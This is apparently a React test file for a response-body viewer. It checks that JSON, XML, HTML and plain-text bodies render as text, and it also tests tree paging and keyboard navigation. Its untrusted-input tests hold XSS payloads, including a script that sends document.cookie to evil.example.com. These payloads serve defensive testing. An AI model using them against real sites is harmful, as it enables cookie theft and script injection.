import { render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it } from 'vitest';
import BodyView, { type BodyViewProps } from './body-view';
import { LOCAL_JSON_LIMIT } from './open-body';
import { TEXT_CHUNK } from './text-view';

const img = '<img src=x onerror=alert(1)>';
const script = "<script>alert('xss')</script>";

function renderBody(props: Partial<BodyViewProps> & Pick<BodyViewProps, 'text'>) {
  return render(<BodyView label="Response Body" emptyText="No Response Body" {...props} />);
}

/** Nothing a body holds may become an element: no image, no script, no frame. */
function expectNoInjectedElements(container: HTMLElement) {
  expect(container.querySelectorAll('img, script, iframe, object, embed, svg image')).toHaveLength(0);
  expect(document.querySelectorAll('img, script')).toHaveLength(0);
}

describe('BodyView with markup in the body (untrusted input)', () => {
  it('shows a JSON body holding markup as text, in the tree', () => {
    const { container } = renderBody({
      text: JSON.stringify({ display_name: img, auth_reason: `Verified by phone ${script}` }),
      contentType: 'application/json',
    });
    const tree = screen.getByRole('tree', { name: 'Response Body' });
    // String values are shown in quotes, as JSON writes them.
    expect(within(tree).getByText(`"${img}"`)).toBeTruthy();
    expect(within(tree).getByText(`"Verified by phone ${script}"`)).toBeTruthy();
    expectNoInjectedElements(container);
  });

  it('shows the same JSON as raw text on request', async () => {
    const text = JSON.stringify({ display_name: img });
    const { container } = renderBody({ text, contentType: 'application/json' });
    await userEvent.click(screen.getByRole('button', { name: 'Text' }));
    expect(screen.getByRole('region', { name: 'Response Body' }).textContent).toBe(text);
    expect(screen.getByRole('button', { name: 'Text' }).getAttribute('aria-pressed')).toBe('true');
    expectNoInjectedElements(container);
  });

  it('shows an XML body with escaped markup as text nodes of the tree', () => {
    const xml = '<?xml version="1.0"?>\n<Error code="422"><Message>Model is not a known model: &lt;img src=x onerror=alert(1)&gt;</Message></Error>';
    const { container } = renderBody({ text: xml, contentType: 'application/xml' });
    const tree = screen.getByRole('tree', { name: 'Response Body' });
    expect(within(tree).getByText(`Model is not a known model: ${img}`)).toBeTruthy();
    expect(within(tree).getByText('@code')).toBeTruthy();
    expectNoInjectedElements(container);
  });

  it('shows an HTML page as its source text, scripts and all', () => {
    const html = `<html>\n<head><script>document.location='https://evil.example.com/?c='+document.cookie</script></head>\n<body><center>lb-02 ${img}</center></body>\n</html>`;
    const { container } = renderBody({ text: html, contentType: 'text/html' });
    expect(screen.queryByRole('tree')).toBeNull();
    expect(screen.getByRole('region', { name: 'Response Body' }).textContent).toBe(html);
    expectNoInjectedElements(container);
  });

  it('shows plain text and markup that is not well-formed XML as text', async () => {
    const text = `note=${script} ${img}`;
    const { container, unmount } = renderBody({ text, contentType: 'text/plain' });
    expect(screen.getByRole('region', { name: 'Response Body' }).textContent).toBe(text);
    expectNoInjectedElements(container);
    unmount();
    const notXml = `<center>${img}</center>`;
    const second = renderBody({ text: notXml });
    expect((await screen.findByRole('region', { name: 'Response Body' })).textContent).toBe(notXml);
    expectNoInjectedElements(second.container);
  });
});

describe('BodyView', () => {
  it('shows the placeholder when there is no body', () => {
    renderBody({ text: null });
    expect(screen.getByText('No Response Body')).toBeTruthy();
    expect(screen.queryByRole('tree')).toBeNull();
  });

  it('shows JSON that does not parse as text', () => {
    renderBody({ text: '{"cut": "in the mid', contentType: 'application/json' });
    expect(screen.getByRole('region', { name: 'Response Body' }).textContent).toBe('{"cut": "in the mid');
  });

  it('opens the first levels and leaves deeper ones and long lists closed', async () => {
    // Over 4 KB: opened two levels deep (a smaller document opens whole, next test).
    const items = Array.from({ length: 150 }, (_, i) => ({ n: i, note: 'x'.repeat(30) }));
    renderBody({ text: JSON.stringify({ meta: { page: { number: 1 } }, items }) });
    const tree = screen.getByRole('tree');
    const [root] = within(tree).getAllByRole('treeitem');
    expect(root?.getAttribute('aria-expanded')).toBe('true');
    const meta = within(tree).getByRole('treeitem', { name: /^meta/ });
    expect(meta.getAttribute('aria-expanded')).toBe('true');
    expect(within(tree).getByRole('treeitem', { name: /^page/ }).getAttribute('aria-expanded')).toBe('false');
    const list = within(tree).getByRole('treeitem', { name: /^items/ });
    expect(list.getAttribute('aria-expanded')).toBe('false');
    // Opened, a long list shows a page of items and offers the rest a page at a time.
    const shownItems = () => list.querySelectorAll(':scope > ul > [role=treeitem]');
    expect(shownItems()).toHaveLength(0);
    await userEvent.click(within(list).getByText('150 items', { exact: false }));
    expect(list.getAttribute('aria-expanded')).toBe('true');
    expect(shownItems()).toHaveLength(100);
    await userEvent.click(within(list).getByText('Show 50 more of 150'));
    expect(shownItems()).toHaveLength(150);
    expect(shownItems()[149]?.textContent).toContain('[149]');
    expect(within(list).queryByText(/more of/)).toBeNull();
  }, 20_000);

  it('opens a small document whole', () => {
    renderBody({ text: JSON.stringify({ vin: 'X', mmr: { wholesale: { above: 1, average: 2 } } }) });
    expect(screen.getByRole('treeitem', { name: /^wholesale/ }).getAttribute('aria-expanded')).toBe('true');
    expect(screen.getByRole('treeitem', { name: /^average/ }).textContent).toContain('2');
  });

  it('cuts a long value and shows the rest on "show more"', async () => {
    const long = `${'a'.repeat(300)}${'b'.repeat(50)}`;
    renderBody({ text: JSON.stringify({ long }) });
    const item = screen.getByRole('treeitem', { name: /^long/ });
    expect(item.textContent).not.toContain('b');
    await userEvent.click(within(item).getByRole('button', { name: /show more of long \(50 more characters\)/ }));
    expect(item.textContent).toContain(`"${long}"`);
  });

  it('is one tab stop, moved by the arrow keys (the ARIA tree pattern)', async () => {
    const user = userEvent.setup();
    renderBody({ text: JSON.stringify({ a: { b: 1 }, c: [1, 2, 3], d: 'x' }) });
    // The Tree and Text switches come first, then the tree.
    await user.tab();
    await user.tab();
    await user.tab();
    const root = screen.getAllByRole('treeitem')[0];
    expect(document.activeElement).toBe(root);
    await user.keyboard('{ArrowDown}');
    expect(document.activeElement).toBe(screen.getByRole('treeitem', { name: /^a/ }));
    // a is open (level 2): Left closes it, Right opens it again, Right again enters it.
    await user.keyboard('{ArrowLeft}');
    expect(screen.getByRole('treeitem', { name: /^a/ }).getAttribute('aria-expanded')).toBe('false');
    await user.keyboard('{ArrowRight}{ArrowRight}');
    expect(document.activeElement).toBe(screen.getByRole('treeitem', { name: /^b/ }));
    await user.keyboard('{ArrowLeft}');
    expect(document.activeElement).toBe(screen.getByRole('treeitem', { name: /^a/ }));
    await user.keyboard('{End}');
    expect(document.activeElement).toBe(screen.getByRole('treeitem', { name: /^d/ }));
    await user.keyboard('{Home}');
    expect(document.activeElement).toBe(root);
    // Only the focused item is in the tab order.
    expect(screen.getAllByRole('treeitem').filter((item) => item.tabIndex === 0)).toEqual([root]);
    await user.keyboard('{ArrowDown}{ArrowDown}{ArrowDown}');
    expect(screen.getAllByRole('treeitem').filter((item) => item.tabIndex === 0)).toEqual([document.activeElement]);
  });

  it('opens a body too large for the page thread without the worker too (here: no worker)', async () => {
    const big = JSON.stringify({ data: Array.from({ length: 4000 }, (_, i) => ({ id: i, note: 'x'.repeat(30) })) });
    expect(big.length).toBeGreaterThan(LOCAL_JSON_LIMIT);
    renderBody({ text: big });
    expect(screen.getByRole('status').textContent).toContain('Reading Response Body');
    const tree = await screen.findByRole('tree', {}, { timeout: 5000 });
    expect(within(tree).getByRole('treeitem', { name: /^data/ }).getAttribute('aria-expanded')).toBe('false');
  });

  it('shows long text a chunk at a time', async () => {
    const text = 'line\n'.repeat(TEXT_CHUNK / 5 + 10);
    renderBody({ text, contentType: 'text/plain' });
    const region = screen.getByRole('region', { name: 'Response Body' });
    expect(region.textContent).toHaveLength(TEXT_CHUNK);
    await userEvent.click(screen.getByRole('button', { name: /Show more \(50 characters left\)/ }));
    await waitFor(() => expect(region.textContent).toHaveLength(text.length));
  });
});
